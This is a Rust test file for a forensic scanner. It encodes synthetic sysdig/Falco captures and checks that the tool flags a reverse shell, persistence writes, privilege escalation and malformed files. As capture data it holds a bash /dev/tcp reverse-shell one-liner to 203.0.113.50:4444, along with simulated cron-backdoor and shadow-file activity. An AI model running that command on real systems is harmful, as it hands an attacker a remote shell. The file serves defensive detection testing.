//! sysdig / Falco captures (libscap savefiles) encoded in test code, through the binary: a
//! Java service whose child shell runs `bash -i` and connects to a public address (reverse
//! shell finding with the callback IOC, lineage, container from the cgroup, exact start
//! times), plain and gzip, both event block versions; and hostile shapes (truncated block,
//! a length past the end of the file, zero lengths, unknown blocks, a huge parameter count,
//! empty and garbage files), each read up to the problem and reported.

use std::io::Write;

use serde_json::Value;

use crate::util::run_json;

const CONTAINER: &str = "3f2a9c0d8e7b6a5f4e3d2c1b0a9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d4c3b2a19";
const OTHER: &str = "9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d9c8b7a6f5e4d3c2b1a0f9e8d";
const T0: u64 = 1_764_590_400_000_000_000; // 2025-12-01T12:00:00Z

/// One libscap block: type, total length, body padded to 4 bytes, total length.
fn block(kind: u32, body: &[u8]) -> Vec<u8> {
    let mut body = body.to_vec();
    while !body.len().is_multiple_of(4) {
        body.push(0);
    }
    let len = (body.len() + 12) as u32;
    let mut v = kind.to_le_bytes().to_vec();
    v.extend(len.to_le_bytes());
    v.extend(body);
    v.extend(len.to_le_bytes());
    v
}

fn section_header() -> Vec<u8> {
    let mut b = 0x1A2B_3C4Du32.to_le_bytes().to_vec();
    b.extend(1u16.to_le_bytes());
    b.extend(2u16.to_le_bytes());
    b.extend(u64::MAX.to_le_bytes());
    block(0x0A0D_0D0A, &b)
}

fn field(v: &mut Vec<u8>, s: &[u8]) {
    v.extend((s.len() as u16).to_le_bytes());
    v.extend(s);
}

/// A thread of a version 9 process list.
struct Thread<'a> {
    tid: u64,
    ptid: u64,
    exe: &'a str,
    args: &'a [u8],
    uid: u32,
    cgroups: &'a [u8],
}

fn process_list(threads: &[Thread]) -> Vec<u8> {
    let mut body = vec![];
    for t in threads {
        let mut e = vec![];
        for n in [t.tid, t.tid, t.ptid, t.tid, t.tid] {
            e.extend(n.to_le_bytes());
        }
        let base = t.exe.rsplit('/').next().unwrap();
        field(&mut e, base.as_bytes());
        field(&mut e, t.exe.as_bytes());
        field(&mut e, t.exe.as_bytes());
        field(&mut e, t.args);
        field(&mut e, b"/");
        e.extend(1024u64.to_le_bytes());
        e.extend(0u32.to_le_bytes());
        e.extend(t.uid.to_le_bytes());
        e.extend(t.uid.to_le_bytes());
        e.extend([0u8; 28]);
        field(&mut e, b"JAVA_HOME=/opt/java");
        e.extend([0u8; 16]);
        field(&mut e, t.cgroups);
        field(&mut e, b"/");
        body.extend(((e.len() + 4) as u32).to_le_bytes());
        body.extend(e);
    }
    block(0x215, &body)
}

/// One event; version 2 blocks carry the parameter count, version 1 blocks do not.
fn event(v1: bool, ts: u64, tid: u64, etype: u16, params: &[&[u8]]) -> Vec<u8> {
    let header = if v1 { 22 } else { 26 };
    let len = header + params.len() * 2 + params.iter().map(|p| p.len()).sum::<usize>();
    let mut b = 0u16.to_le_bytes().to_vec();
    b.extend(ts.to_le_bytes());
    b.extend(tid.to_le_bytes());
    b.extend((len as u32).to_le_bytes());
    b.extend(etype.to_le_bytes());
    if !v1 {
        b.extend((params.len() as u32).to_le_bytes());
    }
    for p in params {
        b.extend((p.len() as u16).to_le_bytes());
    }
    for p in params {
        b.extend(*p);
    }
    block(if v1 { 0x204 } else { 0x216 }, &b)
}

fn i64b(n: i64) -> Vec<u8> {
    n.to_le_bytes().to_vec()
}

fn cgroup(id: &str) -> Vec<u8> {
    format!("cpuset=/docker/{id}\0cpu=/docker/{id}\0").into_bytes()
}

fn tuple4(src: [u8; 4], sport: u16, dst: [u8; 4], dport: u16) -> Vec<u8> {
    let mut t = vec![2u8];
    t.extend(src);
    t.extend(sport.to_le_bytes());
    t.extend(dst);
    t.extend(dport.to_le_bytes());
    t
}

/// execve exit (version 19, 20 parameters): `exe` then its arguments.
fn execve(v1: bool, ts: u64, tid: u64, ptid: u64, exe: &str, args: &[u8], cg: &[u8]) -> Vec<u8> {
    let (res, t, p, pt, zero8, zero4) =
        (i64b(0), i64b(tid as i64), i64b(tid as i64), i64b(ptid as i64), [0u8; 8], [0u8; 4]);
    let params: Vec<&[u8]> = vec![
        &res,
        exe.as_bytes(),
        args,
        &t,
        &p,
        &pt,
        b"/\0",
        &zero8,
        &zero8,
        &zero8,
        &zero4,
        &zero4,
        &zero4,
        exe.as_bytes(),
        cg,
        b"\0",
        &zero4,
        &zero8,
        &zero4,
        &zero4,
    ];
    event(v1, ts, tid, 293, &params)
}

/// clone exit (version 20) in the child: `tid` of process `tid`, parent `ptid`.
fn clone_child(v1: bool, ts: u64, tid: u64, ptid: u64, exe: &str, cg: &[u8], uid: u32) -> Vec<u8> {
    let (res, t, pt, zero8, zero4, u) =
        (i64b(0), i64b(tid as i64), i64b(ptid as i64), [0u8; 8], [0u8; 4], uid.to_le_bytes());
    let params: Vec<&[u8]> = vec![
        &res,
        exe.as_bytes(),
        b"\0",
        &t,
        &t,
        &pt,
        b"/\0",
        &zero8,
        &zero8,
        &zero8,
        &zero4,
        &zero4,
        &zero4,
        exe.as_bytes(),
        cg,
        &zero4,
        &u,
        &u,
        &t,
        &t,
    ];
    event(v1, ts, tid, 223, &params)
}

/// The capture: java (pid 100, uid 1001, container A) -> bash -c '...' (200) -> bash -i (300),
/// which connects to 203.0.113.50:4444 and writes a cron file; a process of container B
/// reads /etc/shadow; a drop marker.
fn capture(v1: bool) -> Vec<u8> {
    let ca = cgroup(CONTAINER);
    let cb =
        format!("cpuset=/kubepods.slice/kubepods-pod1.slice/cri-containerd-{OTHER}.scope\0").into_bytes();
    let mut c = section_header();
    c.extend(process_list(&[
        Thread { tid: 1, ptid: 0, exe: "/sbin/init", args: b"", uid: 0, cgroups: b"cpuset=/\0" },
        Thread {
            tid: 100,
            ptid: 1,
            exe: "/usr/bin/java",
            args: b"-jar\0/app/app.jar\0",
            uid: 1001,
            cgroups: &ca,
        },
        Thread { tid: 500, ptid: 1, exe: "/usr/bin/python3", args: b"job.py\0", uid: 0, cgroups: &cb },
    ]));
    c.extend(clone_child(v1, T0, 200, 100, "java", &ca, 1001));
    c.extend(event(v1, T0 + 10, 200, 292, &[b"/bin/bash\0"]));
    c.extend(execve(v1, T0 + 20, 200, 100, "bash", b"-c\0bash -i >& /dev/tcp/203.0.113.50/4444 0>&1\0", &ca));
    c.extend(clone_child(v1, T0 + 30, 300, 200, "bash", &ca, 1001));
    c.extend(execve(v1, T0 + 40, 300, 200, "bash", b"-i\0", &ca));
    c.extend(event(v1, T0 + 50, 300, 18, &[&2u32.to_le_bytes(), &1u32.to_le_bytes(), &0u32.to_le_bytes()]));
    c.extend(event(v1, T0 + 51, 300, 19, &[&i64b(3)]));
    let t = tuple4([10, 0, 0, 5], 40000, [203, 0, 113, 50], 4444);
    c.extend(event(v1, T0 + 60, 300, 22, &[&i64b(3), &t[..1], &t[7..]]));
    c.extend(event(v1, T0 + 70, 300, 23, &[&i64b(0), &t]));
    let flags = (2u32 | 4).to_le_bytes();
    c.extend(event(
        v1,
        T0 + 80,
        300,
        307,
        &[&i64b(4), &i64b(-100), b"/etc/cron.d/backdoor\0", &flags, &0u32.to_le_bytes(), &0u32.to_le_bytes()],
    ));
    c.extend(event(
        v1,
        T0 + 90,
        500,
        307,
        &[
            &i64b(5),
            &i64b(-100),
            b"/etc/shadow\0",
            &1u32.to_le_bytes(),
            &0u32.to_le_bytes(),
            &0u32.to_le_bytes(),
        ],
    ));
    c.extend(event(v1, T0 + 95, 0, 148, &[&1u32.to_le_bytes()]));
    c
}

fn scan(name: &str, bytes: &[u8]) -> (Value, i32) {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join(name);
    std::fs::write(&p, bytes).unwrap();
    let (v, code) = run_json(&["scan", p.to_str().unwrap()]);
    crate::util::validate_against_schema(&v);
    (v, code)
}

fn bundle(v: &Value) -> &Value {
    &v["bundles"][0]
}

fn findings<'a>(v: &'a Value, rule: &str) -> Vec<&'a Value> {
    bundle(v)["findings"].as_array().unwrap().iter().filter(|f| f["rule"] == rule).collect()
}

fn diagnostics(v: &Value, level: &str) -> Vec<String> {
    bundle(v)["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|d| d["level"] == level)
        .map(|d| d["message"].as_str().unwrap().to_string())
        .collect()
}

fn timeline(v: &Value, kind: &str) -> Vec<String> {
    bundle(v)["timeline"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|t| t["kind"] == kind)
        .map(|t| t["message"].as_str().unwrap().to_string())
        .collect()
}

/// The facts of the reverse-shell capture, whatever its encoding.
fn assert_reverse_shell(v: &Value) {
    let b = bundle(v);
    assert_eq!(b["artifacts"][0]["kind"], "scap");
    let shell = findings(v, "scap.net.shell-connect");
    assert_eq!(shell.len(), 1, "{:#}", b["findings"]);
    let f = shell[0];
    assert_eq!(f["severity"], "critical");
    assert_eq!(f["owner"]["id"], CONTAINER);
    assert_eq!(f["time"], "2025-12-01T12:00:00.000000070Z");
    assert!(f["summary"].as_str().unwrap().contains("bash (pid 300) `bash -i`"), "{f}");
    let iocs: Vec<(&str, &str, &str)> = f["iocs"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| (i["type"].as_str().unwrap(), i["value"].as_str().unwrap(), i["role"].as_str().unwrap()))
        .collect();
    assert_eq!(iocs, vec![("ip", "203.0.113.50", "callback"), ("endpoint", "203.0.113.50:4444", "callback")]);
    // The bundle's indicators and hosts take the callback.
    let s = b.to_string();
    assert!(b["iocs"].to_string().contains("203.0.113.50"), "{}", b["iocs"]);
    assert!(s.contains("203.0.113.50:4444"));
    // The cron file the shell wrote, owned by the same container.
    let cron = findings(v, "scap.file.persistence-write");
    assert_eq!(cron.len(), 1);
    assert!(cron[0]["summary"].as_str().unwrap().contains("/etc/cron.d/backdoor"));
    assert_eq!(cron[0]["owner"]["id"], CONTAINER);
    // Lineage: java -> bash -> bash -i, each in its container, with exact start times.
    let procs = b["processes"][0]["capture"]["processes"].as_array().unwrap();
    let by_pid =
        |pid: u64| procs.iter().find(|p| p["pid"] == pid).unwrap_or_else(|| panic!("pid {pid}: {procs:?}"));
    assert_eq!(b["processes"][0]["capture"]["format"], "scap");
    assert_eq!(by_pid(300)["ppid"], 200);
    assert_eq!(by_pid(300)["cmd"], "bash -i");
    assert_eq!(by_pid(300)["started"], "2025-12-01T12:00:00.000000040Z");
    assert_eq!(by_pid(200)["ppid"], 100);
    assert_eq!(by_pid(200)["extra"]["exepath"], "/bin/bash");
    assert_eq!(by_pid(100)["exe"], "java");
    assert_eq!(by_pid(100)["uid"], 1001);
    assert_eq!(by_pid(100)["container"]["id"], CONTAINER);
    assert_eq!(by_pid(500)["container"]["id"], OTHER);
    // The process rules run on the capture: a JVM that spawned a shell.
    let lineage: Vec<&Value> = b["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"].as_str().unwrap().starts_with("proc.") && f["owner"]["id"] == CONTAINER)
        .collect();
    assert!(!lineage.is_empty(), "no process finding on the container: {:#}", b["findings"]);
    // Both containers are named; the second one's read of /etc/shadow is on the timeline.
    let ids: Vec<&str> =
        b["containers"].as_array().unwrap().iter().map(|c| c["id"].as_str().unwrap()).collect();
    assert!(ids.contains(&CONTAINER) && ids.contains(&OTHER), "{ids:?}");
    assert!(timeline(v, "file-open")
        .iter()
        .any(|m| m.contains("python3 (pid 500") && m.contains("/etc/shadow (account database)")));
    assert!(timeline(v, "network-connect")
        .iter()
        .any(|m| m.contains("tcp from 10.0.0.5:40000 to 203.0.113.50:4444")));
    // The drop marker is reported: the capture is incomplete.
    assert!(
        diagnostics(v, "warning").iter().any(|d| d.starts_with("1 dropped-event markers")),
        "{:?}",
        diagnostics(v, "warning")
    );
    assert!(diagnostics(v, "error").is_empty(), "{:?}", diagnostics(v, "error"));
    assert_eq!(b["verdicts"][0]["status"], "compromised", "{:#}", b["verdicts"]);
}

#[test]
fn reverse_shell_from_a_jvm_plain_and_gzip() {
    let c = capture(false);
    let (v, _) = scan("capture.scap", &c);
    assert_reverse_shell(&v);
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(&c).unwrap();
    let (v, _) = scan("trace.scap.gz", &gz.finish().unwrap());
    assert_eq!(bundle(&v)["artifacts"][0]["compression"], "gzip");
    assert_reverse_shell(&v);
}

#[test]
fn version_1_event_blocks_without_a_parameter_count() {
    let (v, _) = scan("old.scap", &capture(true));
    assert_reverse_shell(&v);
}

#[test]
fn text_report_names_the_shell_and_the_callback() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("capture.scap");
    std::fs::write(&p, capture(false)).unwrap();
    let out = crate::util::run(&["scan", p.to_str().unwrap()]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("scap.net.shell-connect"), "{text}");
    assert!(text.contains("203.0.113.50:4444"));
    assert!(text.contains("bash -i"));
}

#[test]
fn truncated_capture_keeps_what_was_read() {
    let c = capture(false);
    // Cut inside the last block (the drop marker): everything before it stands.
    let (v, code) = scan("cut.scap", &c[..c.len() - 10]);
    assert_ne!(code, 0);
    let errors = diagnostics(&v, "error");
    assert_eq!(errors.len(), 1, "{errors:?}");
    assert!(errors[0].starts_with("truncated: block of type 0x216"), "{errors:?}");
    assert!(errors[0].contains("read 13 blocks and 11 events before it"), "{errors:?}");
    assert_eq!(findings(&v, "scap.net.shell-connect").len(), 1);
}

#[test]
fn block_length_past_the_end_of_the_file() {
    let mut c = capture(false);
    let tail = block(0x216, &[0u8; 40]);
    let at = c.len();
    c.extend(&tail);
    c[at + 4..at + 8].copy_from_slice(&(1u32 << 20).to_le_bytes());
    let (v, _) = scan("long.scap", &c);
    let errors = diagnostics(&v, "error");
    assert!(errors.iter().any(|e| e.contains("declares 1048576 bytes")), "{errors:?}");
    assert_eq!(findings(&v, "scap.net.shell-connect").len(), 1);
    // Over the cap: refused before reading.
    c[at + 4..at + 8].copy_from_slice(&u32::MAX.to_le_bytes());
    let (v, _) = scan("huge.scap", &c);
    assert!(
        diagnostics(&v, "error").iter().any(|e| e.contains("over the")),
        "{:?}",
        diagnostics(&v, "error")
    );
}

#[test]
fn zero_lengths_empty_files_and_garbage() {
    // A block header with length 0 after the section header.
    let mut c = section_header();
    c.extend(0x216u32.to_le_bytes());
    c.extend(0u32.to_le_bytes());
    c.extend([0u8; 64]);
    let (v, _) = scan("zero.scap", &c);
    assert_eq!(bundle(&v)["artifacts"][0]["kind"], "scap");
    assert!(
        diagnostics(&v, "error").iter().any(|e| e.contains("has length 0")),
        "{:?}",
        diagnostics(&v, "error")
    );
    // An empty file is empty, never a capture.
    let (v, _) = scan("empty.scap", b"");
    assert_eq!(bundle(&v)["artifacts"][0]["kind"], "empty");
    // A section header followed by garbage.
    let mut g = section_header();
    g.extend(0x201u32.to_le_bytes());
    g.extend(b"\xff\xff\x00\x00garbage garbage garbage");
    let (v, _) = scan("garbage.scap", &g);
    assert_eq!(bundle(&v)["artifacts"][0]["kind"], "scap");
    assert_eq!(diagnostics(&v, "error").len(), 1, "{:?}", diagnostics(&v, "error"));
    // pcapng opens with the same section header: not a capture.
    let mut pcap = section_header();
    pcap.extend(block(1, &[1, 0, 0, 0, 0, 0, 4, 0]));
    let (v, _) = scan("net.pcapng", &pcap);
    assert_eq!(bundle(&v)["artifacts"][0]["kind"], "unknown");
}

#[test]
fn unknown_blocks_and_huge_parameter_counts_are_skipped_and_counted() {
    let c = capture(false);
    let header = section_header().len();
    let mut odd = c[..header].to_vec();
    odd.extend(block(0x9999, b"something newer"));
    let mut bad = event(false, T0, 300, 23, &[&i64b(0)]);
    bad[8 + 2 + 22..8 + 2 + 26].copy_from_slice(&u32::MAX.to_le_bytes());
    odd.extend(bad);
    odd.extend(event(false, T0, 300, 9999, &[b"new"]));
    odd.extend(&c[header..]);
    let (v, _) = scan("odd.scap", &odd);
    let warnings = diagnostics(&v, "warning");
    assert!(warnings.iter().any(|w| w == "1 blocks of unknown types skipped (0x9999 x1)"), "{warnings:?}");
    assert!(
        warnings.iter().any(|w| w.starts_with("1 events could not be decoded")
            && w.contains("declares 4294967295 parameters")),
        "{warnings:?}"
    );
    assert!(
        warnings.iter().any(|w| w == "1 events of types newer than this reader were skipped"),
        "{warnings:?}"
    );
    assert!(diagnostics(&v, "error").is_empty());
    assert_reverse_shell(&v);
}

/// An fd list (version 2) of thread `tid`: `fd` open for writing on `path`.
fn fd_list(tid: u64, fd: i64, path: &str) -> Vec<u8> {
    let mut e = fd.to_le_bytes().to_vec();
    e.extend(0u64.to_le_bytes());
    e.push(16);
    e.extend(2u32.to_le_bytes());
    field(&mut e, path.as_bytes());
    let mut body = tid.to_le_bytes().to_vec();
    body.extend(((e.len() + 4) as u32).to_le_bytes());
    body.extend(e);
    block(0x218, &body)
}

#[test]
fn privilege_ptrace_mount_and_file_acts() {
    let ca = cgroup(CONTAINER);
    let mut c = section_header();
    c.extend(process_list(&[
        Thread { tid: 1, ptid: 0, exe: "/sbin/init", args: b"", uid: 0, cgroups: b"cpuset=/\0" },
        Thread { tid: 300, ptid: 1, exe: "/bin/bash", args: b"-i\0", uid: 1001, cgroups: &ca },
    ]));
    c.extend(fd_list(300, 7, "/etc/passwd"));
    let ok = i64b(0);
    c.extend(event(false, T0, 300, 8, &[&i64b(7), &10u32.to_le_bytes()]));
    c.extend(event(false, T0 + 1, 300, 198, &[&0u32.to_le_bytes()]));
    c.extend(event(false, T0 + 2, 300, 199, &[&ok]));
    c.extend(event(false, T0 + 3, 300, 168, &[&11u16.to_le_bytes(), &i64b(1)]));
    c.extend(event(false, T0 + 4, 300, 169, &[&ok, &[0u8; 9], &[0u8; 9]]));
    c.extend(event(false, T0 + 5, 300, 256, &[&0u32.to_le_bytes()]));
    c.extend(event(false, T0 + 6, 300, 257, &[&ok, b"/dev/sda1\0", b"/mnt/host\0", b"ext4\0"]));
    let m = i64b(-100);
    let renamed: Vec<&[u8]> =
        vec![&ok, &m, b"pod.yaml\0", &m, b"/etc/kubernetes/manifests/evil.yaml\0", &[0u8; 4]];
    c.extend(event(false, T0 + 7, 300, 319, &renamed));
    c.extend(event(false, T0 + 8, 300, 303, &[&ok, &m, b"/var/log/auth.log\0", &[0u8; 4]]));
    // A failed setuid changes nothing.
    c.extend(event(false, T0 + 9, 300, 198, &[&0u32.to_le_bytes()]));
    c.extend(event(false, T0 + 10, 300, 199, &[&i64b(-1)]));
    let (v, _) = scan("acts.scap", &c);
    assert!(
        diagnostics(&v, "error").is_empty() && diagnostics(&v, "warning").is_empty(),
        "{:#}",
        bundle(&v)["diagnostics"]
    );
    let one = |rule: &str, text: &str| {
        let f = findings(&v, rule);
        assert_eq!(f.len(), 1, "{rule}: {:#}", bundle(&v)["findings"]);
        assert!(f[0]["summary"].as_str().unwrap().contains(text), "{rule}: {}", f[0]["summary"]);
        assert_eq!(f[0]["owner"]["id"], CONTAINER, "{rule}");
    };
    one("scap.file.account-write", "bash (pid 300) `/bin/bash -i` wrote to /etc/passwd");
    one("scap.priv.setuid-root", "changed its user id from 1001 to 0");
    one("scap.proc.ptrace", "ptrace(ATTACH) on pid 1");
    one("scap.mount.host", "mounted /dev/sda1 (ext4) on /mnt/host");
    one("scap.file.static-pod", "renamed /pod.yaml to /etc/kubernetes/manifests/evil.yaml");
    assert_eq!(
        timeline(&v, "file-delete"),
        vec!["bash (pid 300) in container 3f2a9c0d8e7b deleted /var/log/auth.log"]
    );
    assert_eq!(timeline(&v, "privilege-change").len(), 1);
}

#[test]
fn ordinary_file_reads_are_capped_per_process_sensitive_ones_never() {
    let mut c = section_header();
    c.extend(process_list(&[Thread {
        tid: 40,
        ptid: 1,
        exe: "/usr/bin/find",
        args: b"/\0",
        uid: 0,
        cgroups: b"",
    }]));
    let flags = 1u32.to_le_bytes();
    for i in 0..250 {
        let path = format!("/srv/data/file-{i}\0");
        let (fd, dirfd, zero) = (i64b(3), i64b(-100), 0u32.to_le_bytes());
        c.extend(event(false, T0 + i, 40, 307, &[&fd, &dirfd, path.as_bytes(), &flags, &zero, &zero]));
    }
    let (fd, dirfd, zero) = (i64b(4), i64b(-100), 0u32.to_le_bytes());
    c.extend(event(false, T0 + 300, 40, 307, &[&fd, &dirfd, b"/etc/shadow\0", &flags, &zero, &zero]));
    let (v, _) = scan("many.scap", &c);
    let warnings = diagnostics(&v, "warning");
    assert!(
        warnings.iter().any(|w| w.starts_with("50 file opens and writes were not listed")),
        "{warnings:?}"
    );
    let opens = timeline(&v, "file-open");
    assert_eq!(opens.len(), 201);
    assert_eq!(opens.last().unwrap(), "find (pid 40) opened /etc/shadow (account database)");
}

#[test]
fn a_health_check_with_nc_is_not_a_reverse_shell() {
    let mut c = section_header();
    c.extend(process_list(&[Thread {
        tid: 60,
        ptid: 1,
        exe: "/usr/bin/nc",
        args: b"-z\x0010.0.0.9\x005432\0",
        uid: 0,
        cgroups: b"",
    }]));
    let t = tuple4([10, 0, 0, 5], 41000, [10, 0, 0, 9], 5432);
    c.extend(event(false, T0, 60, 23, &[&i64b(0), &t]));
    let (v, _) = scan("probe.scap", &c);
    let f = findings(&v, "scap.net.tool-connect-internal");
    assert_eq!(f.len(), 1, "{:#}", bundle(&v)["findings"]);
    assert_eq!(f[0]["severity"], "low");
    assert!(f[0]["iocs"].as_array().unwrap().iter().all(|i| i["role"] == "mentioned"));
    assert!(findings(&v, "scap.net.tool-connect").is_empty());
    for verdict in bundle(&v)["verdicts"].as_array().unwrap() {
        assert_ne!(verdict["status"], "compromised", "{verdict}");
    }
}

#[test]
fn rules_are_listed() {
    let (v, _) = run_json(&["rules", "list"]);
    let ids: Vec<&str> = v.as_array().unwrap().iter().map(|r| r["id"].as_str().unwrap()).collect();
    for id in
        ["scap.net.shell-connect", "scap.file.account-write", "scap.priv.setuid-root", "scap.mount.host"]
    {
        assert!(ids.contains(&id), "{id} not listed");
    }
}
